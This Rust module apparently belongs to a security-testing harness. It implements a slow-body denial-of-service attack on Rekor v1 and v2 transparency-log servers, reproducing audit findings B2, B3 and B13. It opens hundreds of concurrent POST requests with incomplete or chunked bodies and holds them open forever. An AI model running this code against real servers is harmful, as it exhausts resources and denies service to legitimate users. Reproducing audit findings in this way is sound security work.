//! Bodies that begin and do not end (findings B2, B3, B13).

use std::future::pending;

use futures::future::join_all;
use tokio::io::AsyncWriteExt;

use crate::attacks::ground::Ground;
use crate::clients::v1;
use crate::clients::v2;

/// How many bodies of Rekor v2 stall, and how long each says it is: the longest that is taken.
const BODIES: usize = 300;
const BODY_BYTES: usize = 4 << 20;

/// How many bodies of Rekor v1 stall, and after how many bytes: behind the first mebibyte.
const V1_BODIES: usize = 12;
const V1_BYTES: usize = (1 << 20) + (64 << 10);

/// Posts bodies of Rekor v2 that lack their last byte.
pub(crate) async fn run_v2(ground: Ground) {
    let line = format!("content-length: {BODY_BYTES}");
    let head = ground.caller.head("POST", v2::ENTRIES, &line);
    let body = vec![b' '; BODY_BYTES - 1];
    stall(&ground, BODIES, head.as_bytes(), &body).await;
}

/// Posts bodies of Rekor v1 whose length nobody knows.
pub(crate) async fn run_v1(ground: Ground) {
    let head = ground
        .caller
        .head("POST", v1::ENTRIES, "transfer-encoding: chunked");
    let mut body = format!("{V1_BYTES:x}\r\n").into_bytes();
    body.resize(body.len() + V1_BYTES, b' ');
    body.extend(b"\r\n");
    stall(&ground, V1_BODIES, head.as_bytes(), &body).await;
}

async fn stall(ground: &Ground, count: usize, head: &[u8], body: &[u8]) {
    join_all((0..count).map(|_| hold(ground, head, body))).await;
}

async fn hold(ground: &Ground, head: &[u8], body: &[u8]) {
    let mut stream = ground.begin(head).await;
    if let Some(stream) = &mut stream {
        // The server may stop reading, or end the connection: both are good.
        let _ = stream.write_all(body).await;
    }
    pending().await
}
